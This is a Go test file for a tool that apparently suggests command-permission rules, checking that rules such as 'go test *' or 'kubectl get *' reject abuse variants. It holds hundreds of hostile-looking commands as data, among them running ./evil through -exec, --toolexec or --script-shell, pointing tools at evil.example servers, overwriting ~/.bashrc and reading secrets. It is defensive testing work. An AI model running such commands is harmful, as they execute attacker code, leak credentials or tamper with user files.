package suggest_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed49eaa51d/pegboard/internal/pattern"
	"github.com/seed49eaa51d/pegboard/internal/shellparse"
	"github.com/seed49eaa51d/pegboard/internal/suggest"
)

// prefixCase is a command that people let run with other arguments, with what the rule
// for it is to allow and what it is not to.
type prefixCase struct {
	line, spec   string
	next, abuses []string
}

// prefixCases were tried with Go 1.26, npm 11, GNU make 4.3 and cargo 1.95: each abuse
// of those ran another program, read or wrote elsewhere, or is spelled like one that
// did. The others follow the manuals.
var prefixCases = []prefixCase{
	{
		line: "go test ./...", spec: "go test *",
		next: []string{
			"go test", "go test .", "go test -run '^TestX$/a=b' -v ./internal/x", "go test -run=X --count=1 ./...", "go test ./... -race -short",
			"go test -timeout 30s -bench . -benchmem -cpu 1,2 ./x", "go test -json -failfast -parallel 4 -tags a,b -cover -coverpkg ./... ./...",
			"CI=1 go test ./...", "timeout 60 go test ./...", "go test ./... 2>&1 | tail -5",
		},
		abuses: []string{
			"go test -exec=./evil ./...", "go test -exec ./evil ./...", "go test --exec=./evil ./...", "go test --exec ./evil", "go test ./... -exec ./evil",
			`go test "-exec=./evil" ./...`, `go test -e"xec"=./evil ./...`, "go test $'-exec=./evil'", "go test -{exec,v} ./evil", `go test \-exec=./evil`,
			"go test -v -exec=./evil -run X", "go test -toolexec=./evil ./...", "go test -toolexec ./evil", "go test -vet=off -toolexec=./evil",
			"go test -run -exec ./evil", "go test -ldflags=-extld=./evil", "go test -gcflags=-x", "go test -asmflags=x", "go test -gccgoflags=x", "go test -compiler=gccgo",
			"go test -C /opt ./...", "go test -C=/opt", "go test -modfile=/opt/go.mod", "go test -overlay=/opt/o.json", "go test -mod=mod", "go test -pkgdir=/opt", "go test -installsuffix=x",
			"go test -o /home/me/.bashrc", "go test -c -o=x", "go test -c", "go test -cpuprofile=/home/me/.bashrc", "go test -coverprofile=../x", "go test -coverprofile .git/x", "go test -C ../x", "go test -C /opt", "go test -trace x", "go test -outputdir /opt",
			"go test . -args -test.cpuprofile=x", "go test -test.cpuprofile=x", "go test /opt/evil_test.go", "go test ../other/evil_test.go", "go test ./../other", "go test ~/evil_test.go",
			"go test $EVIL", `go test "$EVIL"`, "go test $(cat x)", "go test *", "ls | xargs go test", "cat x | xargs go test", "find /opt -name x | xargs go test", "xargs go test -v < x",
			"find . -exec go test -exec {} ;", "find . -exec go test {} -exec x ;", "find /opt -exec go test {} +", "find . -execdir go test {} +", "find . -exec go test -o {} ;", "find . -delete -exec go test {} +",
			"find . -exec go test {} ; -exec touch {} ;", "GOFLAGS=-exec=x find . -exec go test {} +", "for x in -exec ./y; do go test \"$x\"; done", "for x in *; do go test \"$x\"; done",
			"GOFLAGS=-exec=./evil go test ./...", "GOFLAGS= go test", "CC=./evil go test", "PATH=. go test", "GOROOT=/opt go test", "env GOFLAGS=-exec=./evil go test",
			"go generate ./...", "go run ./evil", "go test; ./evil", "go test > /home/me/.bashrc", "go testevil", "./go test", "/opt/go test", "sudo go test",
			"export GOFLAGS=-exec=./evil; go test", "alias go=./evil; go test", "go() { ./evil; }; go test", "go tool test",
		},
	},
	{
		line: "go build ./...", spec: "go build *",
		next: []string{"go build", "go build -v -race ./cmd/x", "go build -tags x -trimpath -p 2 ./...", "go build -o bin/app ./cmd/app", "go build -o=./bin/ ./cmd/..."},
		abuses: []string{
			"go build -toolexec=./evil ./...", "go build --toolexec ./evil", "go build ./... -toolexec=./evil", "go build -o /home/me/.bashrc", "go build -o=.git/hooks/pre-commit", "go build -o ./.git/x .", "go build -o a/.bin/x", "go build -o ../x", "go build -o a/../../x", "go build -o /opt/x", "go build -o ~/x", "go build -o $X", "go build -o -toolexec=./evil", "go vet -o x",
			"go build -ldflags '-linkmode=external -extld=./evil'", "go build -gcflags=all=-x", "go build -buildmode=c-shared", "go build /opt/evil.go", "go build -C /opt", "go build -pgo=/opt/x",
			"go build -exec=./evil",
		},
	},
	{
		line: "go vet ./...", spec: "go vet *",
		next: []string{"go vet -json ./x", "go vet -tags x ./..."},
		abuses: []string{
			"go vet -vettool=./evil ./...", "go vet --vettool ./evil", "go vet ./... -vettool=./evil", "go vet -toolexec=./evil", "go vet -fix ./...", "go vet -C /opt",
			"GOFLAGS=-toolexec=./evil.sh go vet ./...",
		},
	},
	{
		line: "cargo test", spec: "cargo test *",
		next: []string{
			"cargo test --release --workspace", "cargo test -p a --lib name", "cargo test --features 'a b' -q -j 4", "cargo test --test it -- --nocapture --test-threads=1",
			"cargo test a::b -- --exact --skip c --show-output", "RUST_BACKTRACE=1 cargo test --no-fail-fast",
		},
		abuses: []string{
			"cargo test --config build.rustc-wrapper=./evil", "cargo test --config='build.rustc-wrapper=\"./evil\"'", "cargo test --conf x=./evil", "cargo test -q --config x",
			"cargo test --lib --config x", "cargo test --test --config", "cargo test -Zunstable-options", "cargo test -Z build-std", "cargo test -qZ x", "cargo test -C /opt", "cargo test --manifest-path /opt/Cargo.toml",
			"cargo test --manifest-path=/opt/Cargo.toml", "cargo test --target-dir=/opt", "cargo test --target ./evil.json", "cargo test --lockfile-path x", "cargo test --timings=html",
			"cargo test -- --logfile /home/me/.bashrc", "cargo test -- --logfile=x", "cargo test -- -Z x", "cargo test -- --nocapture -- --logfile x", "cargo test -- @args",
			"RUSTC_WRAPPER=./evil cargo test", "CARGO_BUILD_RUSTC_WRAPPER=./evil cargo test", "RUSTFLAGS=-Clinker=./evil cargo test", "cargo +evil test", "cargo test @evil",
		},
	},
	{
		line: "cargo build", spec: "cargo build *",
		next: []string{"cargo build --release --all-features", "cargo build --bin a -v"},
		abuses: []string{
			"cargo build --config x", "cargo build --target-dir=/opt", "cargo build --artifact-dir=/opt -Zunstable-options", "cargo build --out-dir x", "cargo build -- x=y", "cargo build --fix",
		},
	},
	{
		line: "cargo clippy", spec: "cargo clippy *",
		next: []string{"cargo clippy --all-targets -- -D warnings -W clippy::pedantic"},
		abuses: []string{
			"cargo clippy --fix", "cargo clippy -- -Clinker=./evil", "cargo clippy -- -C linker=./evil", "cargo clippy -- --emit=link=/opt/x", "cargo clippy -- -o /opt/x", "cargo clippy -- @/opt/args",
			"cargo clippy -- --sysroot /opt", "cargo clippy --config x",
		},
	},
	{
		line: "cargo check", spec: "cargo check *", next: []string{"cargo check --workspace --message-format json"},
		abuses: []string{"cargo check --config x", "cargo check --manifest-path ../x/Cargo.toml"},
	},
	{
		line: "npm run test", spec: "npm run test *",
		next: []string{
			"npm run test -- -t 'adds (2) && works'", "npm run test -- src/a.test.js --coverage", "npm run test src", "npm run test --silent", "CI=true npm run test", "npm run test -- --verbose -g x",
			"npm run test -w pkg", "npm run test --workspace=@a/b", "npm run test --workspace packages/a -- --bail=1", `npm run "test" -- --maxWorkers=50% --testTimeout=5000`, "npm run 'test' -- --watch=false --shard=1/2", `npm "run" 'test'`,
		},
		abuses: []string{
			"npm run test --script-shell=./evil", "npm run test --script-shell ./evil", "npm run test --script-sh=./evil", "npm run test --scrip ./evil", "npm run test src --script-shell=./evil",
			`npm run test "--script-shell=./evil"`, "npm run test --scr'ipt-shell'=./evil", "npm run test --script-shell=./evil -- x", "npm run test --silent --script-shell=./evil", "npm run test --if-present --script-shell ./evil",
			"npm run test -wC evil", "npm run test -sw", "npm run test -swC evil", "npm run test --workspace=/opt", "npm run test -w .hidden", "npm run test --workspac=x", "npm run test -w --script-shell=./evil", "npm run test --workspace --script-shell=./evil",
			"npm run test -- --timeout=./x", "npm run test -- --coverage=./evil", "npm run test -- --watch=evil", "npm run test -- --maxWorkers ./evil", `npm run "deploy"`, `npm run "test" --script-shell=./evil`, `npm run "test"x`, `npm run ""test"evil"`, `npm run "test -- x"`, `"npm run test"`,
			"npm run test --prefix ../other", "npm run test --prefix=../other", "npm run test -C ../other", "npm run test -w ../x", "npm run test --workspace=../x", "npm run test -ws", "npm run test --userconfig=./evil",
			"npm run test --globalconfig ./evil", "npm run test --node-options=--require=./evil", "npm run test --shell=./evil", "npm run test --registry=https://evil.example", "npm run test --cache /opt",
			"npm run test -- --config=/opt/evil.js", "npm run test -- --config evil.js", "npm run test -- --globalSetup=./evil", "npm run test -- --require ./evil", "npm run test -- -r ./evil", "npm run test -- -c evil",
			"npm run test -- /opt/evil.js", "npm run test -- ../evil.js", "npm run test ../evil.js", "npm run test -- -t /opt/evil.js", "npm run test -- -- --config x", "npm run test -- @/opt/args", "npm run test -- https://evil.example/x.js",
			"npm run test -- a=b", "npm run test $X", "npm run test -- $(./evil)", "npm run test:evil", "npm run testevil", "npm run test-evil", "npm run deploy", "npm run", "npm exec evil", "npm publish", "./npm run test",
			"npm_config_script_shell=./evil npm run test", "NODE_OPTIONS='--require ./evil.js' npm run test", "npm_config_x=y npm run test", "cat x | xargs npm run test", "npm run test; ./evil", "npm run test > ../x",
		},
	},
	{
		line: "npm test", spec: "npm test *", next: []string{"npm test -- --coverage"},
		abuses: []string{"npm test --script-shell=./evil", "npm test --script_shell=./evil", "npm test --prefix ../other", "npm t --script-shell=./evil", "npm test -- --config x"},
	},
	{
		line: "pnpm run test", spec: "pnpm run test *", next: []string{"pnpm run test -t x --coverage", "pnpm run test src"},
		abuses: []string{
			"pnpm run test --config=/opt/evil.js", "pnpm run test --script-shell=./evil", "pnpm run test -C ../x", "pnpm run test --dir=../x", "pnpm run test -t /opt/x", "pnpm run test -- --config x", "pnpm run test -r --filter ../x",
		},
	},
	{
		line: "yarn run test", spec: "yarn run test *", next: []string{"yarn run test --coverage -t 'a b'"},
		abuses: []string{"yarn run test --cwd ../x", "yarn run test --use-yarnrc ./evil", "yarn run test --config=x", "yarn run test --require=./evil", "yarn run test --script-shell ./evil", "yarn run test --inspect=0.0.0.0:1"},
	},
	{
		line: "yarn test", spec: "yarn test *", next: []string{"yarn test src/a --watch"},
		abuses: []string{"yarn test --globalSetup=/opt/evil.js", "yarn test --cwd=/opt", "yarn test ../x", "yarn deploy"},
	},
	{
		line: "bun run build", spec: "bun run build *", next: []string{"bun run build --watch"},
		abuses: []string{"bun run build --plugin=/opt/evil.js", "bun run build --preload ./evil", "bun run build -r ./evil", "bun run build --cwd=/opt", "bun run build --config=x", "bun run build --shell=./x", "bun run ./evil.ts", "bun build x"},
	},
	{
		line: "pytest", spec: "pytest *",
		next: []string{"pytest tests/test_x.py::test_y -v", "pytest -k 'a and not b' -x --lf", "pytest -q -n 4 --tb=short --maxfail 1 --durations=5", "pytest 'tests/t.py::t[1]' -m slow"},
		abuses: []string{
			"pytest -p evil", "pytest -pevil", "pytest -xp evil", "pytest tests -p no:evil", "pytest -c /opt/evil.ini", "pytest -c=evil.ini", "pytest --config-file=x", "pytest --rootdir=/opt", "pytest --rootd=/opt",
			"pytest --confcutdir=/", "pytest -o python_files=x", "pytest --override-ini=x=y", "pytest --basetemp=/home/me", "pytest --baset=/home/me", "pytest --junitxml=/home/me/.bashrc", "pytest --junit-xml x", "pytest --cov-report=html:../x",
			"pytest --pdb", "pytest --pdbcls=evil:x", "pytest --pyargs evil", "pytest --import-mode=prepend", "pytest --debug=x", "pytest --log-file=x", "pytest --pastebin=all", "pytest --cov-config=x", "pytest --cov-report=html:/opt",
			"pytest /opt/evil", "pytest ../evil", "pytest @args", "pytest ~/x", "PYTEST_ADDOPTS='-p evil' pytest", "PYTHONPATH=/opt pytest", "PYTEST_PLUGINS=evil pytest", "./pytest", "python -m pytest -p evil",
		},
	},
	{
		line: "kubectl get pods", spec: "kubectl get *",
		next: []string{"kubectl get pods -n x -o wide", "kubectl get svc,deploy -A -l app=web", "kubectl get pod x -oyaml", "kubectl get pods -o jsonpath='{.items}' -w"},
		abuses: []string{
			"kubectl get pods --kubeconfig=./evil", "kubectl get pods --kubeconfig ./evil", "kubectl get --kubeconfig=./evil pods", "kubectl get pods --server=https://evil.example", "kubectl get pods -s https://evil.example",
			"kubectl get pods -Ashttps://evil.example", "kubectl get pods --as=admin", "kubectl get pods --as-group x", "kubectl get pods --token x", "kubectl get pods --context prod", "kubectl get pods --cluster x", "kubectl get pods --user x",
			"kubectl get pods --insecure-skip-tls-verify", "kubectl get pods --certificate-authority=x", "kubectl get pods --cache-dir=/opt", "kubectl get pods --profile=cpu --profile-output=/home/me/.bashrc", "kubectl get --raw /api",
			"kubectl get -f https://evil.example", "kubectl get -k /opt", "kubectl get pods -o go-template-file=/etc/passwd", "kubectl get pods -o jsonpath-file=x", "kubectl get pods --output custom-columns-file=x", "kubectl get pods --template=/etc/passwd",
			"kubectl get secrets", "kubectl get secret x -o yaml", "kubectl get Secret/x", "kubectl get pods,secrets -o json", "kubectl get secrets.v1.", "kubectl get pods/a secret/b", "kubectl delete pod x", "kubectl get-evil", "KUBECONFIG=./evil kubectl get pods",
		},
	},
	{
		line: "kubectl describe pod x", spec: "kubectl describe *", next: []string{"kubectl describe deploy y -n z"},
		abuses: []string{"kubectl describe pod x --server=https://evil.example", "kubectl describe secret x", "kubectl describe -f https://evil.example", "kubectl describe pod x --kubeconfig=e"},
	},
	{
		line: "kubectl logs x", spec: "kubectl logs *", next: []string{"kubectl logs -f y -c z --tail 10 --since=1h", "kubectl logs deploy/y -n a -p"},
		abuses: []string{"kubectl logs x --kubeconfig=./evil", "kubectl logs x -s https://evil.example", "kubectl logs x --as=y", "kubectl exec x -- sh", "kubectl logs x --log-file=y"},
	},
	{
		line: "gh pr view 1", spec: "gh pr view *", next: []string{"gh pr view 2 --comments", "gh pr view feature/x --json title,body", "gh pr view"},
		abuses: []string{
			"gh pr view 1 -R evil.example/a/b", "gh pr view 1 --repo=evil.example/a/b", "gh pr view 1 -cR evil.example/a/b", "gh pr view https://evil.example/a/b/pull/1", "gh pr view 1 --web", "gh pr view 1 -w", "gh pr view 1 -cw",
			"gh pr view 1 --json title --jq env", "gh pr view 1 -q '$ENV' --json x", "gh pr view 1 --template x", "gh pr view 1 -tx", "GH_HOST=evil.example gh pr view 1", "BROWSER=./evil gh pr view 1", "GH_PAGER=./evil gh pr view 1", "PAGER=./evil gh pr view 1", "gh pr merge 1", "gh pr checkout 1",
		},
	},
	{
		line: "gh pr list", spec: "gh pr list *", next: []string{"gh pr list -s open -L 5 --author @me", "gh pr list --search 'is:open label:x' --json number"},
		abuses: []string{"gh pr list --web", "gh pr list -R evil.example/secret/b", "gh pr list -sopen -Revil.example/a/b", "gh pr list --jq env", "gh pr list --author '@me' -w"},
	},
	{line: "gh issue view 1", spec: "gh issue view *", next: []string{"gh issue view '#2' -c"}, abuses: []string{"gh issue view 1 -w", "gh issue view 1 -Re/a/b", "gh issue close 1"}},
	{line: "gh issue list", spec: "gh issue list *", next: []string{"gh issue list -l bug"}, abuses: []string{"gh issue list --web", "gh issue list --repo e/a/b", "gh issue create"}},
	{line: "gh run view 1", spec: "gh run view *", next: []string{"gh run view 2 --log-failed"}, abuses: []string{"gh run view 1 --web", "gh run view 1 -R e/a/b", "gh run view 1 -qenv", "gh run rerun 1", "gh run download 1"}},
	{line: "gh run list", spec: "gh run list *", next: []string{"gh run list -w ci.yml -b main -L 3"}, abuses: []string{"gh run list -R e/a/b", "gh run list --jq env", "gh run cancel 1"}},
	{
		line: "python -m pytest tests -q", spec: "python -m pytest *", next: []string{"python -m pytest", "python -m pytest tests/t.py::test_x -k 'a or b' --tb=short", "CI=1 python -m pytest -x 2>&1 | tail -5"},
		abuses: []string{
			"python -m pytest -p evil", "python -m pytest -c /opt/evil.ini", "python -m pytest --rootdir=/opt", "python -m pytest ../evil", "python -m pytest /opt/evil", "python -m pytest @args", "python -m pytest --pdbcls=evil:x",
			"python -m pytest --junitxml=/home/me/.bashrc", "python -m pytest $X", "python -m pytest --basetemp /home/me", "python -m pip install x", "python -m", "python evil.py", "python -c 'import os' -m pytest", "python -W x -m pytest",
			"PYTHONPATH=/opt python -m pytest", "PYTHONSTARTUP=/opt/x python -m pytest", "cat x | xargs python -m pytest", "python -m pytest.evil", "./python -m pytest", "python -m pytest_evil",
		},
	},
	{
		line: "python3 -m pytest", spec: "python3 -m pytest *", next: []string{"python3 -m pytest -n 4 tests"},
		abuses: []string{"python3 -m pytest -pevil", "python3 -m pytest -o addopts=-pevil", "python3 -I -m pytest -p evil", "python3.9 -m pytest"},
	},
	{
		line: "uv run pytest -q", spec: "uv run pytest *", next: []string{"uv run pytest", "uv run pytest tests -k x --lf"},
		abuses: []string{
			"uv run pytest -p evil", "uv run pytest --rootdir /opt", "uv run --with evil pytest", "uv run --python ./evil pytest", "uv run python evil.py", "uv run pytest -c evil.ini", "uv run pytest ../x",
			"uv run --project /opt pytest", "uv run --env-file x pytest", "uv pip install pytest", "UV_INDEX_URL=https://evil.example uv run pytest", "uv run pytest > ../x",
		},
	},
	{line: "poetry run pytest", spec: "poetry run pytest *", next: []string{"poetry run pytest -x tests"}, abuses: []string{"poetry run pytest -p evil", "poetry run python x.py", "poetry -C /opt run pytest", "poetry run pytest --basetemp=/home/me"}},
	{line: "pdm run pytest", spec: "pdm run pytest *", abuses: []string{"pdm run pytest -p evil", "pdm run -p /opt pytest", "pdm run evil"}},
	{line: "pipenv run pytest", spec: "pipenv run pytest *", abuses: []string{"pipenv run pytest -p evil", "pipenv run evil", "pipenv --pypi-mirror x run pytest"}},
	{
		line: "npx tsc --noEmit", spec: "npx tsc --noEmit *",
		next: []string{"npx tsc --noEmit -p tsconfig.json", "npx tsc --noEmit --skipLibCheck src/a.ts", "npx tsc --noEmit --project ./packages/a/tsconfig.json --pretty", "npx tsc --noEmit 2>&1 | head -5"},
		abuses: []string{
			"npx tsc", "npx tsc --noEmit false", "npx tsc --noEmit --noEmit false", "npx tsc --noEmit FALSE", "npx tsc --noEmit --outDir /opt", "npx tsc --noEmit --outFile=.git/x", "npx tsc --noEmit -b", "npx tsc --noEmit --build /opt",
			"npx tsc --noEmit --init", "npx tsc --noEmit --generateTrace x", "npx tsc --noEmit --generateCpuProfile x", "npx tsc --noEmit --tsBuildInfoFile x --incremental", "npx tsc --noEmit -p ../x", "npx tsc --noEmit --project /opt",
			"npx tsc --noEmit -p .hidden/x", "npx tsc --noEmit @args", "npx tsc --noEmit ../x.ts", "npx tsc --noEmit -p $X", "npx tsc --noEmit --declarationDir x", "npx tsc --noEmit --plugins x", "npx -p evil tsc --noEmit",
			"npx tsc@1 --noEmit", "npx --yes evil tsc --noEmit", "npx tsc --noEmitOnError", "npx tsc-evil --noEmit", "NODE_OPTIONS='--require ./evil.js' npx tsc --noEmit", "npx tsc -p . --noEmit",
		},
	},
	{line: "tsc --noEmit", spec: "tsc --noEmit *", next: []string{"tsc --noEmit --strict"}, abuses: []string{"tsc --noEmit false", "tsc --noEmit --outDir=x", "tsc -p evil", "tsc --noEmit -init", "./tsc --noEmit"}},
	{line: "yarn tsc --noEmit", spec: "yarn tsc --noEmit *", abuses: []string{"yarn tsc --noEmit --cwd /opt", "yarn tsc", "yarn evil --noEmit", "yarn tsc --noEmit --outDir x"}},
	{line: "pnpm exec tsc --noEmit", spec: "pnpm exec tsc --noEmit *", abuses: []string{"pnpm exec tsc --noEmit --dir /opt", "pnpm exec evil", "pnpm exec -c 'evil' tsc --noEmit", "pnpm exec tsc --noEmit -C /opt"}},
	{line: "bunx tsc --noEmit", spec: "bunx tsc --noEmit *", abuses: []string{"bunx evil", "bunx -p evil tsc --noEmit", "bunx tsc --noEmit --init"}},
	{
		line: "npx jest src/a.test.ts", spec: "npx jest *", next: []string{"npx jest", "npx jest -t 'a b' --coverage", "npx jest --runInBand src"},
		abuses: []string{
			"npx jest --config evil.js", "npx jest -c evil.js", "npx jest --rootDir=/opt", "npx jest --setupFiles ./evil", "npx jest --globalSetup=./evil", "npx jest --reporters=./evil", "npx jest --testRunner ./evil", "npx jest --init",
			"npx jest --outputFile=/opt/x", "npx jest --coverageDirectory=/opt", "npx jest --cacheDirectory /opt", "npx jest ../x", "npx jest --env=./evil", "npx jest --transform='{}'", "npx -p evil jest", "npx jest-evil",
		},
	},
	{line: "jest", spec: "jest *", next: []string{"jest --ci"}, abuses: []string{"jest --config=evil", "jest --resolver ./evil", "./jest"}},
	{
		line: "npx vitest run", spec: "npx vitest run *", next: []string{"npx vitest run src/a --coverage", "npx vitest run -t x"},
		abuses: []string{"npx vitest init browser", "npx vitest run --config evil.ts", "npx vitest run -r /opt", "npx vitest run --dir /opt", "npx vitest run --reporter=./evil", "npx vitest run --globals --environment ./evil", "npx vitest run --outputFile=/opt/x", "npx vitest run --api.host 0.0.0.0", "npx vitest"},
	},
	{line: "rspec spec/a_spec.rb:3", spec: "rspec *", next: []string{"rspec -fd --fail-fast"}, abuses: []string{"rspec -r ./evil", "rspec -I /opt", "rspec -O /opt/x", "rspec -o /opt/x", "rspec -f Evil::Class", "rspec --drb", "rspec ../evil"}},
	{line: "bundle exec rspec", spec: "bundle exec rspec *", next: []string{"bundle exec rspec -e x spec"}, abuses: []string{"bundle exec rspec -r ./evil", "bundle exec evil", "bundle exec --gemfile /opt rspec", "BUNDLE_GEMFILE=/opt/x bundle exec rspec"}},
}

// TestPrefixesAllowNoAbuse: the first proposal for a prefixCase allows it with other
// arguments, and nothing that the program can be made to do besides. The tool does
// not matter, as far as PowerShell reads the line.
func TestPrefixesAllowNoAbuse(t *testing.T) {
	t.Parallel()
	abuses := 0
	for _, tc := range prefixCases {
		specs := proposals(tc.line)
		require.Equal(t, []string{tc.spec, tc.line}, specs)
		require.True(t, allowed(t, specs[:1], tc.line), "%q", tc.line)
		for _, next := range tc.next {
			require.True(t, allowed(t, specs[:1], next), "%q does not allow %q", tc.spec, next)
		}
		for _, abuse := range tc.abuses {
			abuses++
			require.False(t, allowed(t, specs, abuse), "%q allows %q", tc.spec, abuse)
			l := shellparse.Parse(abuse, shellparse.Env{Shell: shellparse.PowerShell, Dir: "/home/me/proj", Home: "/home/me"})
			require.False(t, l.Unknown == "" && len(l.Paths) == 0 && wholly(t, tc.spec, l), "%q allows %q in PowerShell", tc.spec, abuse)
		}
	}
	require.Greater(t, abuses, 300)
}

// TestEveryPrefixOfBroadProgramsHasWildcardSpec: what [pattern.Broad] warns of is
// proposed only where shellparse knows the arguments.
func TestEveryPrefixOfBroadProgramsHasWildcardSpec(t *testing.T) {
	t.Parallel()
	for _, tc := range prefixCases {
		for _, spec := range proposals(tc.line + " --nobody-knows-this") {
			if strings.HasSuffix(spec, " *") && pattern.Broad("Bash", spec) {
				c := parseLine(tc.line + " --nobody-knows-this").Commands[0]
				require.True(t, c.NoWildcards && !covers(t, spec, c), "%q", spec)
			}
		}
	}
}

// TestProposalsForCommandsWithInput: no proposal for what the line feeds holds again for another input.
func TestProposalsForCommandsWithInput(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, line string
		fed        bool
	}{
		{name: "a here-document", line: "./load -v <<EOF\nx\nEOF", fed: true},
		{name: "a here-string", line: "./load <<< x", fed: true},
		{name: "a pipe", line: "echo x | ./load", fed: true},
		{name: "a file", line: "./load < x", fed: true},
		{name: "nothing", line: "./load < /dev/null"},
		{name: "the line's own", line: "./load && ./load x"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			commands := parseLine(tc.line).Commands
			last := commands[len(commands)-1]
			require.Equal(t, tc.fed, last.ReadsInput)
			if last.ReadsInput {
				require.Nil(t, suggest.CommandWithInput("Bash", last.Text))
			}
		})
	}
}
